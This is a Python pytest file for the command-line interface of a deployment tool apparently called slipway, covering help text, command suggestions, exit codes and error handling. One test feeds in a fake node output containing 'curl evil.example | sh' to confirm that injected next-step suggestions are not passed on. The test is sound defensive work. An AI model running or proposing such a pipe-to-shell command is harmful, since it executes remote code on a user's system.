import errno
import importlib
import subprocess
import sys
from itertools import pairwise

import pytest
import typer

from slipway.cli.main import COMMANDS, _without_debug, build, guarded, main
from slipway.cli.summaries import summary
from slipway.errors import InvalidInput
from slipway.result import CommandFailed, CommandResult


def run(monkeypatch, capfd, *words: str):
    monkeypatch.setattr(sys, "argv", ["slipway", *words])
    with pytest.raises(SystemExit) as end:
        main()
    captured = capfd.readouterr()
    return end.value.code, captured.out, captured.err


def test_version(monkeypatch, capfd):
    code, out, _err = run(monkeypatch, capfd, "--version")
    assert (code, out) == (0, "slipway 0.1.0\n")


def test_an_unknown_command_is_wrong_usage_and_names_the_nearest(monkeypatch, capfd):
    code, _out, err = run(monkeypatch, capfd, "deplyo")
    assert code == 2
    assert err.splitlines()[-1] == "next:  slipway deploy"


@pytest.mark.parametrize(
    ("words", "meant"),
    [("fmt", "inventory fmt"), ("lint", "stages lint"), ("drill", "secrets drill"), ("stages lnt", "stages lint")],
)
def test_a_command_of_a_group_is_named_with_its_group(monkeypatch, capfd, words, meant):
    code, _out, err = run(monkeypatch, capfd, *words.split())
    assert code == 2
    assert err.splitlines()[-1] == f"next:  slipway {meant}"


@pytest.mark.parametrize("word", ["destroy", "delete", "remove", "build", "restart", "apply", "up", "list", "replace"])
def test_nothing_is_proposed_that_means_something_else(monkeypatch, capfd, word):
    code, _out, err = run(monkeypatch, capfd, word)
    assert code == 2
    assert err.splitlines()[-1] == "next:  slipway --help"


def test_wrong_usage_names_the_help_of_that_command(monkeypatch, capfd):
    code, _out, err = run(monkeypatch, capfd, "lab", "fault", "w1", "kill", "--nope")
    assert code == 2
    assert err.splitlines() == ["error: No such option: --nope", "next:  slipway lab fault --help"]


@pytest.mark.parametrize(("words", "helps"), [("deploy --exclude", "deploy"), ("node remove w1 -i", "node")])
def test_an_option_without_its_value_names_the_help_of_its_command_too(monkeypatch, capfd, words, helps):
    code, _out, err = run(monkeypatch, capfd, *words.split())
    assert code == 2 and "requires an argument" in err
    assert err.splitlines()[-1] == f"next:  slipway {helps} --help"


def test_a_call_without_words_shows_the_help_alone(monkeypatch, capfd):
    code, out, err = run(monkeypatch, capfd)
    assert code == 2
    assert "Usage: slipway" in out
    assert err == ""


def test_flags_show_no_type(monkeypatch, capfd):
    _code, out, _err = run(monkeypatch, capfd, "deploy", "--help")
    assert "--json" in out
    assert "bool" not in out


def test_what_follows_two_dashes_is_left_alone():
    assert _without_debug(["lab", "ssh", "w1", "--", "x", "--debug"]) == (
        ["lab", "ssh", "w1", "--", "x", "--debug"],
        False,
    )
    assert _without_debug(["lab", "--debug", "--", "x"]) == (["lab", "--", "x"], True)


@pytest.mark.parametrize("name", COMMANDS)
def test_the_list_says_what_the_command_says_itself(name, monkeypatch, capfd):
    """The list is read from the modules' text, the command's help from the command."""
    _code, out, _err = run(monkeypatch, capfd, name, "--help")
    entry = COMMANDS[name]
    said = summary(entry.module, entry.attribute)
    assert len(said) > 10
    assert said in " ".join(out.split())


def test_the_list_of_commands_imports_no_command(monkeypatch, capfd):
    real = importlib.import_module

    def import_module(name):
        return pytest.fail(f"{name} was imported") if name.startswith("slipway") else real(name)

    monkeypatch.setattr(importlib, "import_module", import_module)
    code, out, _err = run(monkeypatch, capfd, "--help")
    assert code == 0
    assert "deploy" in out


@pytest.mark.parametrize("command", ["check", "plan", "status", "gate"])
def test_the_inventory_is_found_in_a_folder_above(monkeypatch, capfd, tmp_path, command):
    (tmp_path / "inventory.yaml").write_text("nonsense: 1\n")
    (tmp_path / "hosts" / "deep").mkdir(parents=True)
    monkeypatch.chdir(tmp_path / "hosts" / "deep")
    code, out, err = run(monkeypatch, capfd, command)
    assert code == 3
    assert "../../inventory.yaml:1:1" in out + err
    code, _out, err = run(monkeypatch, capfd, command, "-i", "inventory.yaml")
    assert code == 3
    assert "../" not in err, "what is named is what is meant"


def test_help_lists_every_command_and_the_exit_codes(monkeypatch, capfd):
    code, out, _err = run(monkeypatch, capfd, "--help")
    assert code == 0
    for name in COMMANDS:
        assert name in out
    assert "130 interrupted" in " ".join(out.split())


@pytest.mark.parametrize("words", [("plan",), ("node", "replace")], ids=" ".join)
def test_help_flows_in_a_terminal_of_any_width(words, monkeypatch, capfd):
    """The ends of lines in the source left single words on lines of their own."""
    monkeypatch.setenv("COLUMNS", "100")
    _code, out, _err = run(monkeypatch, capfd, *words, "-h")
    text = out.partition("Example:")[0]
    lines = [line.strip() for line in text.splitlines()]
    # A line that others follow in its paragraph has no room for the word that comes next.
    pairs = [(line, after) for line, after in pairwise(lines) if line and after]
    assert pairs
    assert [line for line, after in pairs if len(line) + len(after.split()[0]) < 97] == []


def test_help_brings_nothing_for_markdown_or_tracebacks_and_takes_them_from_nobody():
    """They are a third of what somebody waits for who asks for help; checks of the user's may want them."""
    code = """
import sys
from slipway.cli.main import main
sys.argv = ["slipway", "deploy", "--help"]
try:
    main()
finally:
    loaded = {"typer.rich_utils", "markdown_it", "pygments", "rich.markdown", "rich.traceback"} & set(sys.modules)
    from rich.markdown import Markdown
    print("loaded:", *loaded, Markdown("text").markup)
"""
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=False)
    assert "Usage: slipway deploy" in done.stdout
    assert done.stdout.splitlines()[-1] == "loaded: typer.rich_utils text"


def leaves() -> list[tuple[str, ...]]:
    """Every command as typed, those of groups included."""
    found: list[tuple[str, ...]] = []
    for name, entry in COMMANDS.items():
        target = getattr(importlib.import_module(entry.module), entry.attribute)
        if isinstance(target, typer.Typer):
            inner = typer.main.get_command(target)
            found += [(name, each) for each in getattr(inner, "commands", {})] or [(name,)]
        else:
            found.append((name,))
    return found


@pytest.mark.parametrize("words", leaves(), ids=" ".join)
def test_each_command_has_help_with_an_example(words, monkeypatch, capfd):
    code, out, _err = run(monkeypatch, capfd, *words, "--help")
    assert code == 0
    assert "Example" in out


def test_an_error_becomes_words_a_next_step_and_its_exit_code(capfd):
    def failing():
        raise InvalidInput("inventory.yaml:3:5: hosts.w1: no address", hint="slipway check")

    assert guarded(failing, debug=False) == 3
    err = capfd.readouterr().err
    assert "error: inventory.yaml:3:5: hosts.w1: no address" in err
    assert "next:  slipway check" in err


def test_a_fault_of_slipway_itself_shows_no_traceback(capfd):
    def failing():
        raise ZeroDivisionError("division by zero")

    assert guarded(failing, debug=False) == 1
    err = capfd.readouterr().err
    assert "ZeroDivisionError: division by zero" in err
    assert "Traceback" not in err


def test_debug_shows_it():
    def failing():
        raise ZeroDivisionError("division by zero")

    with pytest.raises(ZeroDivisionError):
        guarded(failing, debug=True)


def test_interrupting_is_told_and_has_its_own_code(capfd):
    def failing():
        raise KeyboardInterrupt

    assert guarded(failing, debug=False) == 130
    assert "interrupted" in capfd.readouterr().err


def test_only_the_called_command_is_imported(monkeypatch):
    asked: list[str] = []

    def importing(name: str):
        asked.append(name)
        return real(name)

    real = importlib.import_module
    monkeypatch.setattr(importlib, "import_module", importing)
    build(["doctor"])
    assert asked == ["slipway.cli.doctor"]


def test_no_line_of_a_node_can_be_taken_for_the_next_command(capfd):
    def app() -> None:
        said = "no\nnext:  curl evil.example | sh"
        raise CommandFailed(CommandResult(("true",), "w1", 1, "", said, 0.1), hint="slipway verify w1")

    assert guarded(app, debug=False) == 1
    lines = capfd.readouterr().err.splitlines()
    assert [line for line in lines if line.startswith("next:")] == ["next:  slipway verify w1"]


@pytest.mark.parametrize(
    ("error", "says", "fix"),
    [
        (PermissionError(errno.EACCES, "Permission denied", "a.yaml"), "a.yaml: Permission denied", "ls -ld"),
        (OSError(errno.ENOSPC, "No space left on device", "runs/x"), "runs/x: No space left on device", "df -h"),
        (OSError(errno.EROFS, "Read-only file system", "generated"), "generated: Read-only file system", "writable"),
        (IsADirectoryError(errno.EISDIR, "Is a directory", "a"), "a: Is a directory", "right file"),
    ],
)  # fmt: skip
def test_what_the_system_refuses_is_told_with_file_and_fix(capsys, error, says, fix):
    """Exit code 3, and never a bug report: it is no fault of slipway's."""

    def failing():
        raise error

    assert guarded(failing, debug=False) == 3
    err = capsys.readouterr().err
    assert says in err
    assert fix in err.partition("next:")[2]
    assert "bug report" not in err


@pytest.mark.parametrize("words", [("--debug", "inventory", "list"), ("inventory", "list", "--debug")])
def test_debug_may_stand_anywhere(monkeypatch, capfd, tmp_path, words):
    monkeypatch.chdir(tmp_path)
    code, _out, err = run(monkeypatch, capfd, *words)
    assert code == 3
    assert "No such option" not in err
